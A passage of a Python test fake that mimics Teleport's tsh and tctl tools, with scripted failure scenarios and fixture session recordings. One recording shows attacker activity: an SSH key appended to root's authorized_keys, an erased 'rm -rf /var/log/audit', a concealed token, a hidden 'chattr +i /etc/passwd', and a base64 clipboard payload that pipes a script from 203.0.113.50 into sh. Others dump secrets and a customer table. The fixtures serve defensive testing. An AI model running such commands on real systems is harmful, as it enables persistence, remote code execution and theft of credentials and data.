            "kubernetes_groups": ["developers"],
            "databases": [],
            "valid_until": format_rfc3339(valid // NS * NS),
            "extensions": ["login-ip", "permit-agent-forwarding", "permit-port-forwarding",
                           "permit-pty", "private-key-policy"],
            "active": True,
        }
    return {
        "profile_url": "https://staging.example.net:443",
        "username": user,
        "active_requests": [],
        "cluster": "staging.example.net",
        "roles": ["access"],
        "traits": {"logins": [user]},
        "logins": [user],
        "kubernetes_enabled": False,
        "valid_until": format_rfc3339((now - 48 * HOUR_NS) // NS * NS),
        "extensions": ["permit-pty"],
        "active": False,
    }


def go_duration_str(ns):
    if ns <= 0:
        return "0s"
    s = ns // NS
    h, rem = divmod(s, 3600)
    m, sec = divmod(rem, 60)
    if h:
        return f"{h}h{m}m{sec}s"
    if m:
        return f"{m}m{sec}s"
    return f"{sec}s"


def status_text(prof, now, active):
    valid = parse_rfc3339_ns(prof["valid_until"])
    valid_str = time.strftime("%Y-%m-%d %H:%M:%S +0000 UTC", time.gmtime(valid // NS))
    if valid <= now:
        valid_str += " [EXPIRED]"
    else:
        valid_str += f" [valid for {go_duration_str(valid - now)}]"
    mark = ">" if active else " "
    lines = [
        f"{mark} Profile URL:        {prof['profile_url']}",
        f"  Logged in as:       {prof['username']}",
        f"  Cluster:            {prof['cluster']}",
        f"  Roles:              {', '.join(prof['roles'])}",
        f"  Logins:             {', '.join(prof['logins'])}",
        f"  Kubernetes:         {'enabled' if prof['kubernetes_enabled'] else 'disabled'}",
    ]
    if prof.get("kubernetes_enabled"):
        lines.append(f"  Kubernetes users:   {', '.join(prof.get('kubernetes_users', []))}")
        lines.append(f"  Kubernetes groups:  {', '.join(prof.get('kubernetes_groups', []))}")
    lines.append(f"  Valid until:        {valid_str}")
    lines.append(f"  Extensions:         {', '.join(prof['extensions'])}")
    return "\n".join(lines) + "\n"


def tsh_status(p, scenario):
    if scenario in ("not-logged-in", "no-profile", "expired-creds"):
        return fail(AUTH_ERRORS[scenario])
    now = now_ns()
    expired = scenario == "expired-profile"
    active = profile(now, True, expired)
    others = [] if env("FAKE_OTHER_PROFILE") == "0" else [profile(now, False)]
    fmt = p.values.get("format", "text")
    if fmt == "json":
        out = go_json({"active": active, "profiles": others})
    elif fmt == "yaml":
        out = simple_yaml({"active": active, "profiles": others})
    else:
        out = status_text(active, now, True) + "".join("\n" + status_text(o, now, False) for o in others)
    if expired:
        return Result(out, err=error_line(AUTH_ERRORS["expired-profile"]), code=1)
    return Result(out)


def tsh_version(p, scenario):
    proxy_known = not (p.values.get("client") or scenario in ("no-proxy", "not-logged-in", "no-profile"))
    ver = env("FAKE_PROXY_VERSION", DEFAULT_VERSION)
    proxy = env("FAKE_PROXY", DEFAULT_PROXY)
    if p.values.get("format") == "json":
        v = {"version": CLIENT_VERSION, "gitref": f"v{CLIENT_VERSION}", "runtime": GO_RUNTIME}
        if proxy_known:
            v["proxyVersion"] = ver
            v["proxyPublicAddress"] = proxy
        return Result(go_json(v))
    out = f"Teleport v{CLIENT_VERSION} git:v{CLIENT_VERSION} {GO_RUNTIME}\n"
    if proxy_known:
        out += f"Proxy version: {ver}\nProxy: {proxy}\n"
    return Result(out)


def play_timeline(sid, desktop):
    if desktop:
        return [
            {"ei": 0, "event": "windows.desktop.session.start", "sid": sid, "time": "2026-06-03T13:20:00.3Z"},
            {"ei": 1, "event": "desktop.recording", "ms": 40, "message": "AQID"},
            {"ei": 2, "event": "desktop.recording", "ms": 910, "message": "BAUG"},
            {"ei": 3, "event": "windows.desktop.session.end", "sid": sid, "time": "2026-06-03T14:02:00.4Z"},
        ]
    return [
        {"ei": 0, "event": "session.start", "sid": sid, "time": "2026-06-03T20:12:03.1Z"},
        {"bytes": 42, "ci": 0, "ei": 1, "event": "print", "ms": 120, "offset": 0},
        {"bytes": 17, "ci": 1, "ei": 2, "event": "print", "ms": 980, "offset": 42},
        {"ei": 3, "event": "session.end", "sid": sid, "time": "2026-06-03T20:38:49.6Z"},
    ]


def tsh_play(p, scenario):
    target = p.args[0]
    fmt = p.values.get("format", "pty")
    pty = fmt == "pty"
    desktop = False
    if target.endswith(".tar"):
        # tsh reads a downloaded file (path.Ext == ".tar") itself: no login, no cluster.
        if not os.path.isfile(target):
            return fail(f"open {target}: no such file or directory")
        sid = os.path.basename(target).removesuffix(".tar")
    else:
        # Outside pty mode the id is checked before the client is made; in pty mode after.
        if not pty and not UUID_RE.fullmatch(target):
            return fail(f"'{target}' is not a valid session ID (must be GUID)")
        if scenario in AUTH_ERRORS:
            return fail(AUTH_ERRORS[scenario])
        if scenario == "access-denied":
            return fail('access denied to perform action "read" on "session"')
        if not UUID_RE.fullmatch(target):
            return fail(f"{target} is not a valid UUID")
        ev = find_ls_event(target)
        if ev is None or unrecorded(ev):
            return fail((PLAY_PTY_NOT_FOUND if pty else RECORDING_NOT_FOUND).format(target))
        desktop = ev.get("event") == "windows.desktop.session.end"
        sid = target
    if desktop and pty:
        return fail(PLAY_PTY_DESKTOP)
    if fmt in ("json", "yaml"):
        timeline = play_timeline(sid, desktop)
        return Result(go_json(timeline) if fmt == "json" else simple_yaml(timeline))
    if desktop:
        # text writes the data of print events only, and a desktop recording has none.
        return Result("")
    if fmt == "text" and scenario == "play-slow":
        time.sleep(float(env("FAKE_SLOW_SECS", "2")))
    if fmt == "text" and scenario == "play-hang":
        # A recording that never ends: the first bytes, then nothing, forever.
        write_all(1, recording_bytes(sid)[:200])
        write_pidfile([os.getpid()])
        sleep_forever()
    if fmt == "text" and scenario == "play-flood":
        return Result(flood_bytes())
    return Result(recording_bytes(sid))


# --- What `tsh play --format text` prints: the raw bytes the user's terminal received ------

def bash_prompt(user, host, cwd="~"):
    """Debian's coloured bash prompt, which also sets the window title with OSC 0."""
    sign = "#" if user == "root" else "$"
    return (f"\x1b]0;{user}@{host}: {cwd}\x07"
            f"\x1b[01;32m{user}@{host}\x1b[00m:\x1b[01;34m{cwd}\x1b[00m{sign} ")


def typed(cmd):
    """A command as the shell echoed it, and Enter (CR LF)."""
    return cmd + "\r\n"


def erased(text):
    """Typed, then erased with backspace before Enter: the shell echoes BS SP BS each time."""
    return text + "\b \b" * len(text)


LOGIN = "Last login: Wed Jun  3 20:11:58 2026 from 10.0.0.7\r\n"


def recording_bytes(sid):
    story = RECORDINGS.get(sid)
    if story is None:
        lines = [
            "Last login: Wed Jun  3 20:11:58 2026 from 10.0.0.7",
            "$ \x1b[1mwhoami\x1b[0m",
            "demo",
            "$ uptime",
            " 20:12:07 up 12 days,  3:04,  1 user,  load average: 0.08, 0.03, 0.01",
            "$ exit",
            "logout",
        ]
        return ("\r\n".join(lines) + "\r\n").encode()
    return story().encode("utf-8")


def alice_sudo():
    p, r = bash_prompt("alice", "web-01"), bash_prompt("root", "web-01")
    return (LOGIN + p + typed("uptime")
            + " 20:12:07 up 12 days,  3:04,  1 user,  load average: 0.08, 0.03, 0.01\r\n"
            + p + typed("sudo su -") + "[sudo] password for alice: \r\n"
            + r + typed("visudo")
            # visudo's editor on the alternate screen, then back.
            + "\x1b[?1049h\x1b[H\x1b[2J# /etc/sudoers\r\nalice ALL=(ALL) NOPASSWD:ALL\r\n"
            + "\x1b[?1049l"
            + r + typed("systemctl restart nginx") + r + typed("exit") + "logout\r\n"
            + p + typed("exit") + "logout\r\n")


def mallory_persistence():
    p = bash_prompt("root", "web-03")
    token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
    return (LOGIN + p
            + typed("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBad mallory@kali' >> /root/.ssh/authorized_keys")
            + p + erased("rm -rf /var/log/audit") + typed("ls /var/log")
            + "apt  audit  auth.log  btmp  journal  syslog\r\n"
            # A token printed concealed (SGR 8): invisible on the screen, there in the bytes.
            + p + typed("printf '\\e[8m%s\\e[0m\\n' \"$GH_TOKEN\"")
            + f"\x1b[8m{token}\x1b[0m\r\n"
            # A clipboard write (OSC 52) and a retitled window (OSC 2).
            + p + typed("copy-to-clipboard")
            + "\x1b]52;c;Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjUwL2kuc2ggfCBzaA==\x07"
            + "\x1b]2;vim README.md\x07"
            # Overwritten with a carriage return: "sudo" then "done" over it.
            + p + typed("./progress") + "sudo chattr +i /etc/passwd\rdone                      \r\n"
            + p + typed("history -c") + p + typed("exit") + "logout\r\n")


def carol_export():
    q = "orders=> "
    return ("psql (15.6)\r\nType \"help\" for help.\r\n\r\n"
            + q + typed("SELECT count(*) FROM customers;")
            + " count \r\n-------\r\n 48213\r\n(1 row)\r\n\r\n"
            + q + typed("COPY customers TO STDOUT WITH CSV;")
            + "1,Ada Lovelace,ada@example.com\r\n2,Alan Turing,alan@example.com\r\n"
            + q + typed("\\q"))


def bob_pod():
    p = "\x1b[1;34mroot@api-7f9c8d-x2x4q\x1b[0m:/app# "
    return (p + typed("env | grep -i secret")
            + "STRIPE_SECRET_KEY=sk_live_51H8xEXAMPLE\r\nDB_SECRET=hunter2\r\n"
            + p + typed("exit") + "exit\r\n")


RECORDINGS = {
    "3f2a9c1e-5b7d-4e8a-9c0f-1a2b3c4d5e6f": alice_sudo,
    "d1e2f3a4-b5c6-4d7e-8f9a-0b1c2d3e4f5a": mallory_persistence,
    "b7e4c2a1-9d3f-4b6e-a8c5-2f1e0d9c8b7a": carol_export,
    "8c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f": bob_pod,
}


def flood_bytes():
    """A build log of coloured lines, FAKE_FLOOD_MB megabytes (default 5), one match near the
    end."""
    size = int(float(env("FAKE_FLOOD_MB", "5")) * 1024 * 1024)
    line = "\x1b[32m[  OK  ]\x1b[0m Compiling \x1b[1mcrate-%06d\x1b[0m v0.1.0 (/build)\r\n"
    out, n = [], 0
    total = 0
    while total < size:
        chunk = line % n
        out.append(chunk)
        total += len(chunk)
        n += 1
    out.append("$ sudo tail /var/log/auth.log\r\n")
    return "".join(out).encode()


def tsh_config_aliases():
    home = env("TELEPORT_HOME")
    candidates = []
    if home:
        candidates.append(os.path.join(home, "config", "config.yaml"))
    else:
        candidates.append(os.path.join(os.path.expanduser("~"), ".tsh", "config", "config.yaml"))
    candidates.append("/etc/tsh.yaml")
    aliases = {}
    for path in candidates:
        try:
            with open(path, encoding="utf-8") as f:
                lines = f.read().splitlines()
        except OSError:
            continue
        in_aliases = False
        for line in lines:
            if not line.strip() or line.lstrip().startswith("#"):
                continue
            if not line[0].isspace():
                in_aliases = line.split(":", 1)[0].strip() == "aliases"
                continue
            if in_aliases:
                key, _, val = line.strip().partition(":")
                val = val.strip()
                if len(val) >= 2 and val[0] == val[-1] and val[0] in "\"'":
                    val = val[1:-1]
                aliases.setdefault(key.strip().strip("\"'"), val)
    return aliases


def find_alias(argv, aliases):
    """tsh's findAliasCommand: the first non-option argument."""
    for i, a in enumerate(argv):
        if not a or a.startswith("-"):
            continue
        if a in aliases:
            return a, argv[:i] + argv[i + 1:]
        return None, None
    return None, None


def run_alias(name, template, args):
    unaliased = [x for x in os.environ.get("TSH_UNALIAS", "").split(",") if x]
    if name in unaliased:
        return None
    tsh_path = os.path.abspath(sys.argv[0])
    used = set()

    def sub(m):
        key = m.group(1) or m.group(2)
        if key == "TSH":
            return tsh_path
        if key.isdigit():
            n = int(key)
            used.add(n)
            return args[n] if n < len(args) else ""
        return os.environ.get(key, "")

    expanded = [re.sub(r"\$\{(\w+)\}|\$(\w+)", sub, w) for w in shlex.split(template)]
    cmd = expanded + [a for n, a in enumerate(args) if n not in used]
    child_env = dict(os.environ)
    child_env["TSH_UNALIAS"] = ",".join(unaliased + [name])
    try:
        rc = subprocess.call(cmd, env=child_env)
    except OSError as e:
        return fail(f"failed to run alias command {cmd[0]!r}: {e}")
    return Result(code=rc if rc >= 0 else 128 - rc)


def completion(root, prog, argv):
    if argv[0] == "--completion-script-bash":
        return Result(
            f"\n_{prog}_bash_autocomplete() {{\n"
            "    local cur prev opts base\n"
            "    COMPREPLY=()\n"
            '    cur="${COMP_WORDS[COMP_CWORD]}"\n'
            '    opts=$( ${COMP_WORDS[0]} --completion-bash "${COMP_WORDS[@]:1:$COMP_CWORD}" )\n'
            '    COMPREPLY=( $(compgen -W "${opts}" -- ${cur}) )\n'
            "    return 0\n"
            "}\n"
            f"complete -F _{prog}_bash_autocomplete -o default {prog}\n\n")
    if argv[0] == "--completion-script-zsh":
        return Result(
            f"#compdef {prog}\n\n"
            f"_{prog}() {{\n"
            '    local matches=($(${words[1]} --completion-bash "${(@)words[2,$CURRENT]}"))\n'
            "    compadd -a matches\n\n"
            "    if [[ $compstate[nmatches] -eq 0 && $words[$CURRENT] != -* ]]; then\n"
            "        _files\n"
            "    fi\n"
            "}\n\n"
            f'if [[ "$(basename -- ${{(%):-%x}})" != "_{prog}" ]]; then\n'
            f"    compdef _{prog} {prog}\n"
            "fi\n")
    # --completion-bash WORDS...: kingpin answers with the candidates for the last word
    words = argv[1:]
    cur = words[-1] if words else ""
    cmd = root
    flags = [f.name for f in root.flags]
    for w in words[:-1]:
        if not w.startswith("-") and w in cmd.subs and not cmd.subs[w].hidden:
            cmd = cmd.subs[w]
            flags += [f.name for f in cmd.flags]
    if cur.startswith("-"):
        cands = ["--" + n for n in flags] + ["--help"]
    else:
        cands = [n for n, c in cmd.subs.items() if not c.hidden]
    return Result("".join(c + "\n" for c in cands))


def run_tsh(argv, scenario):
    aliases = tsh_config_aliases()
    if argv and argv[0] == "--completion-bash" and len(argv) > 1:
        name, rest = find_alias(argv[1:], aliases)
        if name:
            r = run_alias(name, aliases[name], ["--completion-bash"] + rest)
            if r is not None:
                return r
    if argv and argv[0] in ("--completion-bash", "--completion-script-bash", "--completion-script-zsh"):
        return completion(tsh_tree(), "tsh", argv)
    name, rest = find_alias(argv, aliases)
    if name:
        r = run_alias(name, aliases[name], rest)
        if r is not None:
            return r
    try:
        p = kingpin_parse(tsh_tree(), argv)
    except Usage as e:
        return fail(str(e))
    if p.help:
        return Result(f"Usage: tsh {' '.join(p.path)} [<flags>]\n")
    if p.path == ["version"]:
        return tsh_version(p, scenario)
    if p.path == ["status"]:
        return tsh_status(p, scenario)
    if p.path == ["play"]:
        return tsh_play(p, scenario)
    return fail(f"the fake tsh does not implement '{' '.join(p.path)}'")


# --------------------------------------------------------------------------
# Scenario wrapper and output
# --------------------------------------------------------------------------

def write_all(fd, data):
    view = memoryview(data)
    while view:
        try:
            n = os.write(fd, view)
        except BrokenPipeError:
            return False
        except OSError:
            return False
        view = view[n:]
    return True


def emit(result):
    if result.effect is not None:
        result.effect()
    if result.out:
        write_all(1, result.out)
    if result.err:
        write_all(2, result.err)
    return result.code


def main(prog, argv):
    try:
        log_argv(prog, argv)
    except OSError as e:
        sys.stderr.write(f"teleport_fake: cannot write FAKE_ARGV_LOG: {e}\n")
        return EXIT_FAKE_MISUSE
    var = "FAKE_TCTL_SCENARIO" if prog == "tctl" else "FAKE_TSH_SCENARIO"
    scenario = env(var, "ok")
    allowed = GENERIC_SCENARIOS | (TCTL_ONLY_SCENARIOS if prog == "tctl" else TSH_ONLY_SCENARIOS)
    if scenario not in allowed:
        sys.stderr.write(f"teleport_fake: unknown {var}={scenario!r}\n")
        return EXIT_FAKE_MISUSE

    if scenario == "close-early":
        os.close(1)
        time.sleep(1)
        return 0

    try:
        result = run_tctl(argv, scenario) if prog == "tctl" else run_tsh(argv, scenario)
    except Misuse as e:
        sys.stderr.write(f"teleport_fake: {e}\n")
        return EXIT_FAKE_MISUSE

    raw = env("FAKE_RAW_STDOUT")
    if raw and prog == "tctl" and result.code == 0 and argv[:1] == ["recordings"] \
            and argv[1:2] in (["ls"], ["search"]):
        # Hostile-input tests: these exact bytes instead of the cluster's JSON.
        try:
            with open(raw, "rb") as f:
                result.out = f.read()
        except OSError as e:
            sys.stderr.write(f"teleport_fake: cannot read FAKE_RAW_STDOUT: {e}\n")
            return EXIT_FAKE_MISUSE
    if scenario == "hang":
        child = subprocess.Popen(["sleep", "3600"])
        write_pidfile([os.getpid(), child.pid])
        sleep_forever()
    if scenario == "hang-setsid":
        # A daemonising helper (an ssh ControlPersist master): its own session, out of reach
        # of a process-group kill, holding stdout and stderr open.
        child = subprocess.Popen(["sleep", "3600"], start_new_session=True)
        write_pidfile([os.getpid(), child.pid])
        sleep_forever()
    if scenario == "garbage":
        write_all(1, b"<html>502 Bad Gateway</html>\n")
        return 0
    if scenario == "hostile-error":
        # A byte that is not UTF-8 too: it must show as \xff, not vanish into U+FFFD.
        write_all(2, error_line(HOSTILE_ERROR).encode("utf-8").replace(b"evil", b"evil \xff"))
        return 1
    if scenario == "slow":
        try:
            secs = float(env("FAKE_SLOW_SECS", "2"))
        except ValueError:
            sys.stderr.write("teleport_fake: FAKE_SLOW_SECS must be a number\n")
            return EXIT_FAKE_MISUSE
        time.sleep(secs)
    if scenario == "stderr-flood":
        chunk = (b"WARN [CLIENT]    Some noisy warning from the fake client. "
                 b"Ignore me, I am here to fill the stderr pipe buffer.\n") * 64
        remaining = 10 * 1024 * 1024
        while remaining > 0:
            piece = chunk[:remaining]
            if not write_all(2, piece):
                break
            remaining -= len(piece)
    if result.tui_hang:
        # `tctl recordings search` without --format=json opens an interactive TUI.
        write_pidfile([os.getpid()])
        sleep_forever()
    if scenario == "die":
        if result.effect is not None:
            result.effect()
        write_all(1, result.out[:200])
        kill_self()
    if scenario == "truncated":
        if result.effect is not None:
            result.effect()
        write_all(1, result.out[: len(result.out) // 2])
        return 0
    return emit(result)


def entry(default_prog):
    name = os.path.basename(sys.argv[0])
    prog = "tsh" if name.startswith("tsh") else "tctl" if name.startswith("tctl") else default_prog
    try:
        code = main(prog, sys.argv[1:])
    except KeyboardInterrupt:
        code = 130
    os._exit(code)
